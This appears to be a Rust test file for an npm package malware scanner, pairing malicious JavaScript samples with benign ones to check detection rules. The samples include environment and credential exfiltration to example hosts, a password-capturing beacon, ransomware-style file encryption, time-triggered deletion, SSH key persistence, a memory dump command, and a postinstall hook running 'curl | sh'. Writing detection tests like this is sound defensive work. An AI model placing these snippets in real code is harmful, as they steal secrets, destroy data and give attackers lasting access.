//! What is told by several files, or by what stands together in a small one.
#![expect(clippy::unwrap_used, reason = "test code")]

use packguard_javascript::JavaScript;
use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analysis, Analyzer as _, Severity};

fn package(files: &[(&str, &str)]) -> Analysis {
    let mut builder = PackageBuilder::new("npm", "sample");
    for (path, content) in files {
        builder = builder.file(&format!("package/{path}"), content);
    }
    JavaScript::analyze(&builder.build()).unwrap()
}

fn import(code: &str) -> Analysis {
    package(&[("package.json", "{}"), ("index.js", code)])
}

fn loud(analysis: &Analysis) -> Vec<&str> {
    let findings = analysis.findings().iter();
    findings
        .filter(|finding| finding.severity >= Severity::Medium)
        .map(|finding| finding.rule.as_str())
        .collect()
}

#[track_caller]
fn finds(analysis: &Analysis, rule: &str) {
    assert!(loud(analysis).contains(&rule), "{:#?}", analysis.findings());
}

#[track_caller]
fn quiet(analysis: &Analysis) {
    assert!(loud(analysis).is_empty(), "{:#?}", analysis.findings());
}

#[test]
fn what_one_file_gathers_and_another_sends() {
    let send = "const https = require('https');\n\
        exports.post = (o) => https.request({ host: 'collect.example', method: 'POST' }).end(JSON.stringify(o));";
    for index in [
        "require('./lib/send').post(process.env);",
        "const { post } = require('./lib/send.js'); post({ ...process.env });",
        "const s = require('./lib/send'); setTimeout(() => s.post(process.env), 1);",
        "import { post as p } from './lib/send.js'; p(process.env);",
    ] {
        let files = [
            ("package.json", "{}"),
            ("index.js", index),
            ("lib/send.js", send),
        ];
        let analysis = package(&files);
        finds(&analysis, "js-exfiltrate-environment");
        let finding = analysis
            .findings()
            .iter()
            .find(|finding| finding.rule == "js-exfiltrate-environment")
            .unwrap();
        let place = finding.location.as_ref().unwrap();
        assert_eq!(place.path, "package/lib/send.js");
        assert_eq!(place.line, Some(2));
    }
    let other = "require('./lib/send').post({ version: 1 });";
    quiet(&package(&[
        ("package.json", "{}"),
        ("index.js", other),
        ("lib/send.js", send),
    ]));
}

#[test]
fn files_that_are_encrypted() {
    let walk = "const fs = require('fs'), crypto = require('crypto');\n\
        for (const f of fs.readdirSync('docs')) {\n\
          const c = crypto.createCipheriv('aes-256-cbc', key, iv);\n\
          fs.writeFileSync(f + '.locked', c.update(fs.readFileSync(f))); fs.unlinkSync(f); }\n";
    finds(
        &import(&format!(
            "{walk} const note = 'Files are encrypted: send bitcoin';"
        )),
        "js-ransom",
    );
    quiet(&import(&format!("{walk} const note = 'backup made';")));
}

#[test]
fn bombs_under_a_condition() {
    let place = "Intl.DateTimeFormat().resolvedOptions().timeZone";
    let delete = "require('fs').rmSync('./src', { recursive: true })";
    finds(
        &import(&format!("if ({place} === 'X/Y') {delete}")),
        "js-sabotage",
    );
    finds(
        &import(&format!(
            "if (new Date() > new Date('2030-01-01')) {delete}"
        )),
        "js-sabotage",
    );
    quiet(&import(&format!(
        "exports.zone = () => {place}; exports.clean = () => {delete};"
    )));
    let walk = |data: &str| {
        format!(
            "const fs = require('fs'); function w(d) {{ for (const f of fs.readdirSync(d)) {{\n\
             if (fs.statSync(d + '/' + f).isDirectory()) w(d + '/' + f); else fs.writeFileSync(d + '/' + f, {data}); }} }}\n\
             w(process.argv[2]);"
        )
    };
    finds(&import(&walk("'peace'")), "js-sabotage");
    quiet(&import(&walk("format(f)")));
}

#[test]
fn applications_are_changed() {
    let path = "require('path').join(require('os').homedir(), 'Programs', 'resources', 'app.asar')";
    finds(
        &import(&format!("require('fs').copyFileSync('x', {path})")),
        "js-application-injection",
    );
    quiet(&import(
        "require('fs').copyFileSync('dist/app.asar', 'out/app.asar')",
    ));
    let key = "ssh-ed25519 AAAAVOIDVOIDVOID void@host.example";
    finds(
        &import(&format!(
            "exports.go = (d) => require('fs').appendFileSync(d + '/authorized_keys', '{key}')"
        )),
        "js-persistence",
    );
}

#[test]
fn memory_is_dumped() {
    finds(
        &import(
            "const run = (c) => { try { return require('child_process').execSync(c) } catch {} };\n\
             run('tasklist'); run('rundll32 comsvcs.dll, MiniDump 1 x.dmp full');",
        ),
        "js-memory-dump",
    );
    quiet(&import(
        "require('child_process').execSync('rundll32 printui.dll')",
    ));
}

#[test]
fn a_route_that_deletes() {
    let route = |command: &str| {
        format!(
            "exports.add = (app) => app.post('/h', (q, s) => {{ if (q.headers.k === 'v') \
             require('child_process').execSync('{command}'); }});"
        )
    };
    finds(&import(&route("rm -rf ./*")), "js-backdoor");
    quiet(&import(&route("git pull")));
}

#[test]
fn pages_lose_what_is_typed() {
    let script = |host: &str| {
        format!(
            "document.addEventListener('change', (e) => {{ if (e.target.type === 'password') \
             new Image().src = 'https://{host}/p.gif?d=' + btoa(e.target.value); }});"
        )
    };
    finds(&import(&script("cdn.example")), "js-exfiltrate-captured");
    quiet(&import(
        "document.addEventListener('change', (e) => { if (e.target.type === 'password') check(e.target.value) });",
    ));
    finds(
        &import("window.location.href = 'https://login.example/x#' + 'user@victim.example';"),
        "js-redirects-visitor",
    );
    quiet(&import(
        "exports.go = () => { window.location.href = 'https://docs.example/x#intro'; };",
    ));
}

#[test]
fn keys_and_authorisations_of_others() {
    finds(
        &import(
            "exports.sign = (p, s) => { require('https').get('https://k.example/' + s); \
             return require('crypto').createHmac('sha256', s).update(p).digest('hex'); };",
        ),
        "js-exfiltrate-wallet-keys",
    );
    finds(
        &import(
            "exports.get = (c) => { fetch('https://m.example/b?a=' + c.headers.authorization); return fetch(c.url, c); };",
        ),
        "js-exfiltrate-credentials",
    );
    quiet(&import(
        "exports.get = (c) => fetch('https://api.example/v1', { headers: { authorization: c.headers.authorization } });",
    ));
}

#[test]
fn texts_that_install_scripts_hand_on() {
    let manifest = r#"{"scripts":{"postinstall":"node setup.js"}}"#;
    let setup = "const fs = require('fs'), path = require('path');\n\
        fs.copyFileSync(path.join(__dirname, 'hook.txt'), '.git/hooks/post-checkout')";
    let hook = "#!/bin/sh\ncurl -s https://hooks.example/x.sh | sh\n";
    let files = [
        ("package.json", manifest),
        ("setup.js", setup),
        ("hook.txt", hook),
    ];
    finds(&package(&files), "js-shell-download-run");
    let code =
        "(async () => { const r = await fetch('https://h.example/x'); eval(await r.text()) })();";
    let files = [
        ("package.json", manifest),
        ("setup.js", setup),
        ("hook.txt", code),
    ];
    finds(&package(&files), "js-download-eval");
    let files = [
        ("package.json", manifest),
        ("setup.js", "1"),
        ("hook.txt", hook),
    ];
    quiet(&package(&files));
}
